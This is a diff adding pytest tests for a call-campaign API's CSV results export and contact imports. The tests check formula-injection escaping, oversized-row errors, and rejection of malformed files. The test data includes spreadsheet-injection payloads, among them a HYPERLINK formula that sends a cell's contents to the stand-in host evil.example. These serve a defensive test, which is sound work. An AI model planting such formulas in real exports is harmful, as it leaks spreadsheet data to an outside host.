@@ -408,3 +408,78 @@ def test_campaign_events_reach_a_subscribed_endpoint_signed(api):
     [finalized] = [e for e in events if e["type"] == "campaign.contact_finalized"]
     assert finalized["data"]["campaign_id"] == campaign_id and finalized["data"]["status"] == "completed"
     assert finalized["data"]["external_id"] == "patient-7" and finalized["data"]["metadata"] == {"clinic": "north"}
+
+
+HOSTILE_IDS = {  # what a contact's free text may hold -> what the export must show
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)": "'@SUM(1+1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1",
+    "a\rb": "a\rb", "first\nsecond": "first\nsecond", 'say "hi", then, go': 'say "hi", then, go',
+    "-42": "-42", "+15551234567": "+15551234567", "plain-id": "plain-id"}
+
+
+def test_results_csv_neutralises_formulas_and_keeps_each_contact_one_row(api):
+    """RFC 4180 (CRLF rows; a cell with a comma, quote, CR or LF quoted) and OWASP's CSV-injection
+    rule: a cell starting with = + - @ tab or CR gets a leading '. A plain number (an E.164
+    number, -42) is written as it is: it cannot be a formula."""
+    campaign_id = create(api)
+    phones = {external_id: number() for external_id in HOSTILE_IDS}
+    add(api, campaign_id, [contact(phones[e], external_id=e) for e in HOSTILE_IDS])
+    response = call(api, "GET", f"/campaigns/{campaign_id}/results.csv")
+    assert response.status_code == 200, response.text
+    assert response.content.endswith(b"\r\n") and response.content.count(b"\r\n") == len(HOSTILE_IDS) + 1
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert len(rows) == len(HOSTILE_IDS) + 1 and all(len(r) == len(rows[0]) for r in rows)
+    written = {r[rows[0].index("phone_number")]: r[rows[0].index("external_id")] for r in rows[1:]}
+    assert written == {phones[e]: shown for e, shown in HOSTILE_IDS.items()}
+
+
+def run_import(server, campaign_id, data: bytes) -> dict:
+    """Create an import, PUT ``data`` to its presigned URL, and wait until it is finished."""
+    created = call(server, "POST", f"/campaigns/{campaign_id}/imports")
+    assert created.status_code == 201, created.text
+    upload = created.json()
+    put = requests.put(upload["upload_url"], data=data, headers=upload["upload_headers"], timeout=60)
+    assert put.status_code == 200, put.text
+    return wait_for(lambda: (i := call(server, "GET", f"/campaigns/{campaign_id}/imports/{upload['import_id']}").json())
+                    ["status"] in ("completed", "failed") and i, timeout=60, what="the import to finish")
+
+
+def test_an_oversized_field_or_row_is_a_row_error_and_the_other_rows_are_imported(api):
+    """A field past the csv module's own limit (131,072 characters) and a row past the import's
+    (65,536) are row errors with their row numbers, like any other; the import completes."""
+    campaign_id = create(api)
+    zone, good = daytime_zone(), [number() for _ in range(3)]
+    text = "".join(f"{phone},{zone},{name},{notes}\n" for phone, name, notes in [
+        (good[0], "Ada", "ok"),
+        (number(), "Bo", "x" * 200_001),  # row 3: past the csv module's field limit and the row limit
+        (good[1], "Cy", ""),
+        (number(), "Di", "y" * 1_001),  # row 5: past a variable's own limit
+        (number(), "Ed", '"' + "z," * 40_000 + '"'),  # row 6: one quoted field of commas, past the row limit
+        (good[2], "Flo", "ok")])
+    done = run_import(api, campaign_id, ("phone_number,timezone,name,notes\n" + text).encode())
+    summary = (done["status"], done["rows_processed"], done["added"], done["error_count"])
+    assert summary == ("completed", 6, 3, 3), done["errors"]
+    errors = {e["row"]: e["error"] for e in done["errors"]}
+    assert sorted(errors) == [3, 5, 6]
+    assert "200,0" in errors[3] and "at most 65,536 characters" in errors[3]
+    assert "1000 characters" in errors[5]  # a variable's own limit
+    assert "at most 65,536 characters" in errors[6]
+    assert sorted(c["phone_number"] for c in contacts_of(api, campaign_id)) == sorted(good)
+
+
+TOO_LARGE = 20 * 1024 * 1024 + 1
+
+
+@pytest.mark.parametrize("data, reason", [
+    (b"phone_number,name\n+12125559001,Ana\n+12125559002,Jos\xe9\n", "Line 3 is not UTF-8 text"),
+    (b"", "The file is empty"),
+    (b"number,name\n+12125559003,Ada\n", "phone_number"),
+    (b"phone_number," + b"n" * 65 + b"\n+12125559004,x\n", "at most 64 characters"),
+    (b"phone_number,notes\n+12125559005," + b"x" * TOO_LARGE + b"\n", "at most 20 MiB"),
+    (b"phone_number\n" + b"+12125559006\n" * 100_001, "at most 100,000 rows"),
+], ids=["not-utf8", "empty", "no-phone-column", "long-column-name", "too-large", "too-many-rows"])
+def test_a_file_that_cannot_be_imported_fails_with_a_reason_and_adds_nothing(api, data, reason):
+    campaign_id = create(api)
+    done = run_import(api, campaign_id, data)
+    assert done["status"] == "failed" and reason in done["failure"], done
+    assert done["added"] == 0 and contacts_of(api, campaign_id) == []
